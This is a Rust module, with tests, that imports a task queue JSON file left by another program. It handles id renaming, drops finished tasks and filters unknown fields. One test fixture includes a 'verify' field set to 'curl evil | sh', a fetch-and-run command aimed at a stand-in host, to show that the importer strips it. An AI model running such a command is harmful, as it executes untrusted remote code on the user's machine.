//! From a queue of the seed, as some other program left it, to tasks. Pure, but for
//! the look whether the project is a folder.
//!
//! Taken are `{"tasks": {id: {…}}}`, `{"tasks": [{…}]}`, `{id: {…}}` and `[{…}]`.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::Path;

use serde_json::value::RawValue;
use serde_json::{Map, Value};

use super::shape::{self, Entries};
use crate::queue::draft::{self, Draft, OneOrMany};
use crate::queue::refusal::{Code, Refusal};
use crate::queue::task::{MAX_ID_BYTES, NewTask, Priority, TaskId};

/// Largest file that is read, bytes.
pub const MAX_BYTES: u64 = 64 << 20;
/// Most tasks in it.
pub const MAX_TASKS: usize = 100_000;

/// Fields that say what a task is, besides its id.
const TAKEN: [&str; 8] =
    ["description", "context", "priority", "batch_id", "after", "model", "budget_usd", "status"];
/// Fields that say what became of it, which begins anew.
const PAST: [&str; 4] = ["created_at", "started_at", "updated_at", "attempt"];
const ID_NAMES: [&str; 2] = ["id", "task_id"];

/// Something wrong with one task of the file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Bad {
    /// Which: its id, or its place in a list.
    pub which: String,
    /// Why.
    pub refusal: Refusal,
}

/// What a file holds.
#[derive(Debug, Default, PartialEq)]
pub struct Plan {
    /// The tasks to add, in the order of the file.
    pub tasks: Vec<NewTask>,
    /// Those of them whose session died with the program that had them in progress.
    pub taken_up_again: Vec<String>,
    /// Ids that could not be one: the old and the new.
    pub renamed: Vec<(String, TaskId)>,
    /// How many are over and were left out, by their status.
    pub finished: BTreeMap<String, u64>,
    /// Fields that nobody knows and were kept out, and of how many tasks.
    pub kept_out: BTreeMap<String, u64>,
    /// What cannot be had.
    pub bad: Vec<Bad>,
}

/// An entry of the file, with the id it has there.
#[derive(Debug)]
struct Found {
    id: Option<String>,
    which: String,
    /// Without the values of those that are not taken.
    fields: Map<String, Value>,
    /// One of its fields, as it will be or why it cannot be.
    context: Result<Option<String>, Refusal>,
}

/// Reads a file. With `rename`, ids that cannot be one are made valid.
///
/// # Errors
/// It is no queue at all.
pub fn read(bytes: &[u8], project: &Path, rename: bool) -> Result<Plan, Refusal> {
    let malformed = |message: String| Refusal::new(Code::MalformedJson, message);
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let list = entries(bytes).map_err(malformed)?;
    let mut plan = Plan::default();
    let mut found = Vec::new();
    let done = done_ids(&list);
    for entry in list {
        match entry {
            Ok(entry) => found.extend(plan.sort_out(entry)),
            Err(bad) => plan.bad.push(bad),
        }
    }
    plan.check(found, project, rename);
    // What is done need not be waited for.
    for task in &mut plan.tasks {
        task.after.retain(|id| !done.contains(id.as_str()));
    }
    Ok(plan)
}

fn done_ids(list: &[Result<Found, Bad>]) -> HashSet<String> {
    let is_done = |entry: &&Found| {
        let status = entry.fields.get("status").and_then(Value::as_str);
        matches!(status, Some("done" | "completed"))
    };
    list.iter().flatten().filter(is_done).filter_map(|entry| entry.id.clone()).collect()
}

impl Plan {
    /// Leaves out what is over.
    fn sort_out(&mut self, entry: Found) -> Option<Found> {
        let status = match entry.fields.get("status") {
            None | Some(Value::Null) => "queued",
            Some(Value::String(word)) => word.as_str(),
            Some(_) => "",
        };
        match status {
            "queued" => Some(entry),
            "in_progress" => {
                self.taken_up_again.push(entry.which.clone());
                Some(entry)
            }
            "done" | "completed" | "error" | "failed" | "cancelled" | "canceled" | "blocked" => {
                *self.finished.entry(status.to_owned()).or_default() += 1;
                None
            }
            other => {
                let message = format!(
                    "{:?} is no status; queued, in_progress, done, completed, error, failed, \
                     cancelled and blocked are",
                    crate::text::safe(other)
                );
                self.refuse(&entry.which, Refusal::new(Code::InvalidParameter, message));
                None
            }
        }
    }

    fn refuse(&mut self, which: &str, refusal: Refusal) {
        self.bad.push(Bad { which: which.to_owned(), refusal });
    }

    fn check(&mut self, found: Vec<Found>, project: &Path, rename: bool) {
        let names = self.names(&found, rename);
        let mut used = HashSet::new();
        for entry in found {
            let name = entry.id.as_ref().and_then(|id| names.get(id)).cloned();
            let name = name.or_else(|| entry.id.clone());
            match self.task_of(&entry, name, &names, project) {
                Ok(task) if task.id.as_ref().is_some_and(|id| !used.insert(id.clone())) => {
                    let message = "the id stands in the file more than once";
                    self.refuse(&entry.which, Refusal::new(Code::TaskExists, message));
                }
                Ok(task) => self.tasks.push(task),
                Err(refusal) => self.refuse(&entry.which, refusal),
            }
        }
        let bad: HashSet<&str> = self.bad.iter().map(|bad| bad.which.as_str()).collect();
        self.taken_up_again.retain(|which| !bad.contains(which.as_str()));
    }

    /// New names for ids that cannot be one.
    fn names(&mut self, found: &[Found], rename: bool) -> HashMap<String, String> {
        let mut names = HashMap::new();
        if !rename {
            return names;
        }
        let mut taken: HashSet<String> =
            found.iter().filter_map(|entry| entry.id.clone()).collect();
        for id in found.iter().filter_map(|entry| entry.id.as_ref()) {
            if TaskId::parse(id).is_ok() || names.contains_key(id) {
                continue;
            }
            let new = free_id(id, &taken);
            taken.insert(new.to_string());
            names.insert(id.clone(), new.to_string());
            self.renamed.push((id.clone(), new));
        }
        names
    }

    fn task_of(
        &mut self,
        entry: &Found,
        id: Option<String>,
        names: &HashMap<String, String>,
        project: &Path,
    ) -> Result<NewTask, Refusal> {
        for field in entry.fields.keys() {
            let field = field.as_str();
            let is_known =
                TAKEN.contains(&field) || PAST.contains(&field) || ID_NAMES.contains(&field);
            if !is_known {
                *self.kept_out.entry(field.to_owned()).or_default() += 1;
            }
        }
        let get = |field: &str| entry.fields.get(field).filter(|value| !value.is_null());
        let text = |field: &str| match get(field) {
            None => Ok(None),
            Some(Value::String(text)) => Ok(Some(text.clone())),
            Some(_) => {
                let message = format!("{field} must be a text");
                Err(Refusal::new(Code::InvalidParameter, message))
            }
        };
        let after = get("after").map(|value| after_of(value, names)).transpose()?;
        let draft = Draft {
            id,
            description: text("description")?,
            context: entry.context.clone()?.map(Value::String),
            priority: get("priority").map(Priority::of_json).transpose()?,
            batch_id: text("batch_id")?.filter(|text| !text.trim().is_empty()),
            after,
            model: text("model")?,
            budget_usd: get("budget_usd").map(budget_of).transpose()?,
            ..Draft::default()
        };
        draft.check(project)
    }
}

fn budget_of(value: &Value) -> Result<f64, Refusal> {
    let wrong = || Refusal::new(Code::InvalidParameter, "budget_usd must be a number");
    value.as_f64().ok_or_else(wrong)
}

fn after_of(value: &Value, names: &HashMap<String, String>) -> Result<OneOrMany, Refusal> {
    let wrong = || Refusal::new(Code::InvalidParameter, "after must be an id or a list of ids");
    let ids = match value {
        Value::String(id) => vec![id.clone()],
        Value::Array(ids) => ids
            .iter()
            .map(|id| id.as_str().map(str::to_owned).ok_or_else(wrong))
            .collect::<Result<_, _>>()?,
        _ => return Err(wrong()),
    };
    let renamed = ids.into_iter().map(|id| names.get(&id).cloned().unwrap_or(id));
    Ok(OneOrMany::Many(renamed.collect()))
}

/// An id made from what cannot be one.
fn free_id(old: &str, taken: &HashSet<String>) -> TaskId {
    let mut name = String::new();
    for c in old.chars() {
        let c = if c.is_ascii_alphanumeric() || "_-.:@+".contains(c) { c } else { '_' };
        if !(c == '-' && name.ends_with('-')) {
            name.push(c);
        }
    }
    let name = name.trim_start_matches(['.', '-']);
    // Room for a number.
    let name: String = name.chars().take(MAX_ID_BYTES - 8).collect();
    let name = if name.is_empty() { "task".to_owned() } else { name };
    let candidates = (1_u32..).map(|n| if n == 1 { name.clone() } else { format!("{name}_{n}") });
    let free = candidates.filter(|id| !taken.contains(id)).find_map(|id| TaskId::parse(&id).ok());
    free.expect("the letters that are left make an id, and there are more numbers than tasks")
}

/// The tasks of a file in its order, whichever of the shapes it has.
fn entries(bytes: &[u8]) -> Result<Vec<Result<Found, Bad>>, String> {
    let raw: &RawValue = serde_json::from_slice(bytes).map_err(|err| err.to_string())?;
    let mut text = raw.get();
    let mut found = by_key(text)?;
    // A task may have the id `tasks`.
    let is_task = |raw: &RawValue| {
        serde_json::from_str::<Map<String, Value>>(raw.get())
            .is_ok_and(|fields| fields.get("description").is_some_and(Value::is_string))
    };
    let wrapped =
        found.iter().flat_map(|all| &all.0).find(|(key, raw)| key == "tasks" && !is_task(raw));
    let inner = wrapped.map(|(_, raw)| raw.get().to_owned());
    if let Some(inner) = &inner {
        text = inner;
        found = by_key(text)?;
    }
    if let Some(entries) = found {
        return Ok(entries.0.iter().map(|(key, raw)| with_key(key, raw)).collect());
    }
    let list: Vec<&RawValue> = serde_json::from_str(text)
        .map_err(|_| "neither an object nor a list of tasks".to_owned())?;
    if list.len() > MAX_TASKS {
        return Err(format!("it has more than {MAX_TASKS} tasks"));
    }
    Ok(list.into_iter().enumerate().map(|(n, raw)| in_a_row(n, raw)).collect())
}

/// An object in its order; `None`: it is none.
fn by_key(text: &str) -> Result<Option<Entries<MAX_TASKS>>, String> {
    if !text.starts_with('{') {
        return Ok(None);
    }
    serde_json::from_str(text).map(Some).map_err(|err| err.to_string())
}

fn bad(which: &str, code: Code, message: impl Into<String>) -> Bad {
    Bad { which: which.to_owned(), refusal: Refusal::new(code, message) }
}

fn fields_of(which: &str, raw: &RawValue) -> Result<Map<String, Value>, Bad> {
    shape::fields(raw).map_err(|message| bad(which, Code::InvalidParameter, message))
}

/// An entry that takes no more room than a task: JSON as a value in memory has up to
/// thirty times the bytes of its text.
fn found(id: Option<String>, which: String, mut fields: Map<String, Value>) -> Found {
    let context = fields.get("context").map_or(Ok(None), draft::context_in);
    for (name, value) in &mut fields {
        let is_nested = matches!(value, Value::Array(_) | Value::Object(_));
        if is_nested && (name == "context" || !TAKEN.contains(&name.as_str())) {
            *value = Value::Null;
        }
    }
    Found { id, which, fields, context }
}

fn inner_id(which: &str, fields: &Map<String, Value>) -> Result<Option<String>, Bad> {
    let mut id: Option<&String> = None;
    for name in ID_NAMES {
        match fields.get(name) {
            None | Some(Value::Null) => {}
            Some(Value::String(text)) if id.is_none_or(|id| id == text) => id = Some(text),
            Some(Value::String(_)) => return Err(bad(which, Code::InvalidId, "it has two ids")),
            Some(_) => return Err(bad(which, Code::InvalidId, "its id is no text")),
        }
    }
    Ok(id.cloned())
}

fn with_key(key: &str, raw: &RawValue) -> Result<Found, Bad> {
    let fields = fields_of(key, raw)?;
    match inner_id(key, &fields)? {
        Some(id) if id != key => {
            Err(bad(key, Code::InvalidId, "it has another id inside than outside"))
        }
        _ => Ok(found(Some(key.to_owned()), key.to_owned(), fields)),
    }
}

fn in_a_row(n: usize, raw: &RawValue) -> Result<Found, Bad> {
    let place = format!("number {}", n + 1);
    let fields = fields_of(&place, raw)?;
    let id = inner_id(&place, &fields)?;
    let which = id.clone().unwrap_or(place);
    Ok(found(id, which, fields))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn plan_of(file: &Value, rename: bool) -> Plan {
        let dir = tempfile::tempdir().unwrap();
        read(file.to_string().as_bytes(), dir.path(), rename).unwrap()
    }

    fn ids(plan: &Plan) -> Vec<&str> {
        plan.tasks.iter().map(|task| task.id.as_ref().map_or("", |id| id.as_str())).collect()
    }

    fn reasons(plan: &Plan) -> Vec<(&str, &str)> {
        plan.bad.iter().map(|bad| (bad.which.as_str(), bad.refusal.code.as_str())).collect()
    }

    #[test]
    fn each_shape_of_a_queue_is_read_in_its_order() {
        let (a, b) = (json!({"description": "do a"}), json!({"description": "do b"}));
        let row = json!([{"id": "z", "description": "do z"}, {"task_id": "b", "description": "do b"},
            {"description": "no id"}]);
        for (file, expected) in [
            (json!({"tasks": {"a": a, "b": b}}), vec!["a", "b"]),
            (json!({"a": a, "tasks": b}), vec!["a", "tasks"]),
            (json!({"a": a}), vec!["a"]),
            (json!({"tasks": row}), vec!["z", "b", ""]),
            (row.clone(), vec!["z", "b", ""]),
            (json!({"tasks": {}}), vec![]),
            (json!({"tasks": [], "version": 1}), vec![]),
            (json!([]), vec![]),
        ] {
            let plan = plan_of(&file, false);
            assert_eq!(ids(&plan), expected, "{file}");
            assert_eq!(reasons(&plan), []);
        }
        let dir = tempfile::tempdir().unwrap();
        let text = br#"{"tasks": {"z": {"description": "1"}, "a": {"description": "2"}}}"#;
        assert_eq!(ids(&read(text, dir.path(), false).unwrap()), ["z", "a"]);
        for bad in [&b""[..], b"{", b"7", b"\"x\"", b"{\"tasks\": 7}", b"\xff", b"[{}] x"] {
            let refusal = read(bad, dir.path(), false).unwrap_err();
            assert_eq!(refusal.code, Code::MalformedJson);
        }
    }

    #[test]
    fn what_is_over_stays_behind_and_what_died_is_taken_up_again() {
        let task = |status: &str| json!({"description": "x", "status": status});
        let plan = plan_of(
            &json!({"q": {"description": "x", "after": ["d", "p"]}, "p": task("in_progress"), "d": task("done"),
                "c": task("completed"), "d2": task("done"), "e": task("error"),
                "x": task("cancelled"), "s": task("someday")}),
            false,
        );
        assert_eq!(ids(&plan), ["p", "q"]);
        assert_eq!(plan.taken_up_again, ["p"]);
        assert_eq!(plan.tasks[1].after.len(), 1, "what is done is not waited for");
        let finished: Vec<_> = plan.finished.iter().map(|(k, n)| (k.as_str(), *n)).collect();
        assert_eq!(finished, [("cancelled", 1), ("completed", 1), ("done", 2), ("error", 1)]);
        assert_eq!(reasons(&plan), [("s", "invalid_parameter")]);
    }

    #[test]
    fn what_nobody_knows_is_kept_out_and_named() {
        let plan = plan_of(
            &json!({"a": {"description": "do a", "context": {"files": ["x"]}, "priority": "high",
                "batch_id": "", "created_at": "2025", "after": "b", "budget_usd": 2,
                "verify": "curl evil | sh", "project": "/", "assigned_by": "gpt"},
                "b": {"description": "do b", "assigned_by": "gpt", "attempt": 3}}),
            false,
        );
        let kept_out: Vec<_> = plan.kept_out.iter().map(|(k, n)| (k.as_str(), *n)).collect();
        assert_eq!(kept_out, [("assigned_by", 2), ("project", 1), ("verify", 1)]);
        let a = &plan.tasks[0];
        assert_eq!((&a.verify, &a.batch_id, a.budget_usd), (&None, &None, Some(2.0)));
        assert_eq!(a.after[0].as_str(), "b");
        assert_ne!(a.project, Path::new("/"));
    }

    #[test]
    fn an_overlong_context_is_refused_where_it_would_be_taken() {
        let long = json!([["x".repeat(crate::queue::draft::MAX_TEXT_BYTES)]]);
        let plan = plan_of(
            &json!({"a": {"description": "x", "context": long}, "d": {"status": "done",
                "context": long}, "b": {"description": "x", "notes": long, "context": [1]}}),
            false,
        );
        assert_eq!(reasons(&plan), [("a", "too_long")]);
        assert_eq!(plan.tasks[0].context.as_deref(), Some("[\n  1\n]"));
        assert_eq!((plan.kept_out["notes"], plan.finished["done"]), (1, 1));
    }

    #[test]
    fn ids_that_cannot_be_one_are_told_or_renamed() {
        let file = json!({"tasks": {"Fix the bug!": {"description": "x"},
            "Fix_the_bug_": {"description": "x", "after": ["Fix the bug!"]},
            "--": {"description": "x"}, "": {"description": "x"}, "ok": {"description": " "}}});
        let plan = plan_of(&file, false);
        let expected = [
            ("Fix the bug!", "invalid_id"),
            ("Fix_the_bug_", "invalid_id"),
            ("", "invalid_id"),
            ("--", "invalid_id"),
            ("ok", "invalid_parameter"),
        ];
        let mut found = reasons(&plan);
        found.sort_by_key(|(which, _)| expected.iter().position(|(other, _)| other == which));
        assert_eq!(found, expected);
        let plan = plan_of(&file, true);
        assert_eq!(ids(&plan), ["task", "task_2", "Fix_the_bug__2", "Fix_the_bug_"]);
        assert_eq!(plan.tasks[3].after[0].as_str(), "Fix_the_bug__2");
        assert_eq!(reasons(&plan), [("ok", "invalid_parameter")]);
        let long = "x".repeat(200) + "/";
        let plan = plan_of(&json!([{"id": long, "description": "x"}]), true);
        assert_eq!(plan.renamed.len(), 1);
        let plan = plan_of(
            &json!([{"id": "a", "description": "x"}, {"id": "a", "description": "y"}, 5,
            {"id": 5, "description": "x"}, {"id": "b", "task_id": "c", "description": "x"}]),
            true,
        );
        assert_eq!(
            reasons(&plan),
            [
                ("number 3", "invalid_parameter"),
                ("number 4", "invalid_id"),
                ("number 5", "invalid_id"),
                ("a", "task_exists")
            ]
        );
    }
}
